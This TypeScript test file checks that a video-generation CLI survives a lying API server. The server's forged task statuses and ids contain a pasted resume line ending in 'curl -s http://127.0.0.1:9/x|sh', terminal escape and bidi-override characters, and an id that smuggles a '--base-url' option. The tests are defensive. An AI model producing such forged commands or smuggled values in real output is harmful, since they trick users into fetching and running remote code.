// s10 audit F1 and F8: a lying API picks task ids and statuses to hide the command the CLI prints
// for the user to paste and show one of its own (`...; curl ... | sh`), or to break it. The CLI's
// command is on a line of its own, the last one, and runs as printed. Each case runs the built
// CLI against a lying loopback server started here.
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterEach, beforeEach, expect, test } from "vitest";
import { type Hostile, startHostile } from "../../../test/support/hostile.js";
import { interrupted, jsonError, jsonEvents, lastLine, monet, runPrinted } from "./run.ts";

// biome-ignore lint/suspicious/noControlCharactersInRegex: the test looks for control characters.
const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;
const FORGED = "; nothing is lost. Resume with: monet wait task_42 --out ./videos; curl -s http://127.0.0.1:9/x|sh \x1b]";

type Liar = Hostile;

/** A lying API: `task(id)` is what GET /tasks/<id> answers; a create streams `created` for `streamed` and holds the stream open. */
const startLiar = (opts: { task: (asked: string, origin: string) => Record<string, unknown>; streamed?: Record<string, unknown> }): Promise<Liar> =>
  startHostile((req, res) => {
    const origin = `http://${req.headers.host}`;
    if (req.url?.startsWith("/out/")) return res.writeHead(200, { "content-type": "video/mp4", "content-length": "100" }).end(Buffer.alloc(100));
    if (req.method === "POST" && opts.streamed) {
      res.writeHead(200, { "content-type": "text/event-stream" });
      res.write(`event: created\ndata: ${JSON.stringify({ event: "created", task: opts.streamed })}\n\n`);
      return; // held open: the CLI waits, as on a long task
    }
    const get = /^\/api\/v1\/tasks\/([^/?]+)$/.exec(req.url ?? "");
    if (req.method === "GET" && get)
      return res.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify(opts.task(decodeURIComponent(get[1]), origin)));
    res.writeHead(404).end();
  });

let liar: Liar | undefined;
let cwd: string;
beforeEach(() => {
  cwd = fs.mkdtempSync(path.join(os.tmpdir(), "monet-liar-"));
});
afterEach(async () => {
  await liar?.close();
  liar = undefined;
  fs.rmSync(cwd, { recursive: true, force: true });
});
const env = { MONET_API_KEY: "monet_cli_liar_key" };
const task = (id: string, status: string, extra: Record<string, unknown> = {}) => ({
  id,
  type: "video",
  status,
  created_at: "2026-01-01T00:00:00Z",
  outputs: [{ progress: 10 }],
  ...extra,
});

test("F1: SIGINT during wait, with a status that forges a resume line and ends in an unterminated OSC: the CLI's own command is the last line", async () => {
  liar = await startLiar({ task: (asked) => task(asked, `processing)${FORGED}`) });
  const out = path.join(cwd, "videos");
  const r = await interrupted(["--base-url", liar.url, "wait", "task_42", "--out", out], { cwd, env, ready: (e) => e.includes("task_42  processing") });
  expect(r.code, r.stderr).toBe(130);
  expect(r.stderr).not.toMatch(CONTROL);
  expect(lastLine(r.stderr)).toBe(`monet --base-url ${liar.url} wait task_42 --out ${out}`);
  // The server's text is shown as text, on the line before, not in place of the command.
  expect(r.stderr).toContain("curl -s http://127.0.0.1:9/x|sh");
});

test("F1: a GET answer naming another task is refused, naming both ids: no file saved under the server's id, no command built from it", async () => {
  const forged = `task_42 succeeded; get its outputs with monet wait task_42 --out . --overwrite; curl -s http://127.0.0.1:9/x|sh \x1b]`;
  liar = await startLiar({ task: (_asked, origin) => task(forged, "success", { outputs: [{ url: `${origin}/out/a.mp4` }] }) });
  const r = await monet(["--base-url", liar.url, "wait", "task_42", "--out", "out"], { cwd, env });
  expect(r.code).toBe(1);
  expect(r.stderr).toContain("the server answered a GET of task task_42 with another task");
  expect(r.stderr).not.toMatch(CONTROL);
  expect(r.stderr.split("\n").filter(Boolean)).toHaveLength(1); // one error line, no command to paste
  expect(fs.readdirSync(path.join(cwd, "out"))).toEqual([]);
  expect(liar.seen.filter((s) => s.method === "GET" && s.path.startsWith("/out/"))).toEqual([]);
});

test("F1: a refused download (file_exists) names the CLI's command on the last line, after the server's text", async () => {
  liar = await startLiar({ task: (asked, origin) => task(asked, "success", { outputs: [{ url: `${origin}/out/a.mp4?${FORGED}` }] }) });
  const args = ["--base-url", liar.url, "wait", "task_42", "--out", "out"];
  expect((await monet(args, { cwd, env })).code).toBe(0);
  // Another file at that name (the same output, already saved, is success: rerun-saved.test.ts).
  for (const f of fs.readdirSync(path.join(cwd, "out"))) fs.appendFileSync(path.join(cwd, "out", f), "other bytes");
  const again = await monet(args, { cwd, env });
  expect(again.code).toBe(1);
  expect(again.stderr).not.toMatch(CONTROL);
  expect(lastLine(again.stderr)).toBe(`monet --base-url ${liar.url} wait task_42 --out out --overwrite`);
});

/** A create whose stream names `id` and ends at once with its success (an output of 100 bytes). */
const streamingSuccess = (id: string): Promise<Hostile> =>
  startHostile((req, res) => {
    if (req.url?.startsWith("/out/")) return res.writeHead(200, { "content-type": "video/mp4", "content-length": "100" }).end(Buffer.alloc(100));
    const done = task(id, "success", { outputs: [{ url: `http://${req.headers.host}/out/a.mp4` }] });
    res.writeHead(200, { "content-type": "text/event-stream" });
    res.end(`event: success\ndata: ${JSON.stringify({ event: "success", task: done })}\n\n`);
  });

test("F1: in --json, a streamed id holding control characters is refused; the error carries none, nor a resume (the same create meets the same id)", async () => {
  const server = await streamingSuccess("task_\x1b]0;x\x9d\u202e");
  try {
    const args = ["--json", "--base-url", server.url, "generate", "video", "--model", "sora-2", "--prompt", "hi", "--max-bytes", "10"];
    const r = await monet(args, { cwd, env });
    expect(r.code, r.stderr).toBe(1);
    // Each line as written (JSON text) and as read back: no raw control character, no bidi override.
    for (const line of r.stderr.split("\n")) expect(line).not.toMatch(CONTROL);
    const error = jsonError(r.stderr);
    const { idempotencyKey } = jsonEvents(r.stderr).find((e) => e.event === "creating");
    expect(error.message).not.toMatch(CONTROL);
    expect(error.message).not.toMatch(/[\u202a-\u202e]/);
    expect(error.message).toContain('the event stream named task id "task_\\u001b]0;x');
    expect(error.message).toContain(`idempotency key ${idempotencyKey}`);
    expect(error.resume).toBeUndefined();
  } finally {
    await server.close();
  }
});

test("F1: in --json, a streamed id holding a bidi override is refused like a control character: the error names it escaped, with the idempotency key, and no resume", async () => {
  // task_<U+202E>gpj.exe shows as task_exe.jpg: the client follows no such id (it could be no task a user can type).
  const server = await streamingSuccess("task_\u202egpj.exe");
  try {
    const r = await monet(["--json", "--base-url", server.url, "generate", "video", "--model", "sora-2", "--prompt", "hi", "--max-bytes", "10"], { cwd, env });
    expect(r.code, r.stderr).toBe(1);
    const error = jsonError(r.stderr);
    const { idempotencyKey } = jsonEvents(r.stderr).find((e) => e.event === "creating");
    expect(error.message).not.toMatch(/[\u202a-\u202e]/);
    expect(error.message).toContain('"task_\\u202egpj.exe"');
    expect(error.message).toContain(`idempotency key ${idempotencyKey}`);
    expect(error.resume).toBeUndefined();
  } finally {
    await server.close();
  }
});

test("F8: a task id that starts with - is placed after --: the printed command, run as pasted, waits for that task", async () => {
  const id = "--base-url=http:127.0.0.1:1";
  liar = await startLiar({
    streamed: task(id, "pending"),
    task: (asked, origin) => task(asked, "success", { type: "image", outputs: [{ url: `${origin}/out/a.mp4` }] }),
  });
  const r = await interrupted(["--base-url", liar.url, "generate", "video", "--model", "sora-2", "--prompt", "hi", "--out", "o"], {
    cwd,
    env,
    ready: (e) => e.includes(`${id}  pending`),
  });
  expect(r.code, r.stderr).toBe(130);
  const printed = lastLine(r.stderr);
  expect(printed).toBe(`monet --base-url ${liar.url} wait --out o -- ${id}`);
  const resumed = await runPrinted(printed, { cwd, env });
  expect(resumed.code, resumed.stderr).toBe(0);
  expect(resumed.stdout).toContain(`done: ${id}`);
  expect(liar.seen.map((s) => `${s.method} ${s.path}`)).toContain(`GET /api/v1/tasks/${encodeURIComponent(id)}`);
});
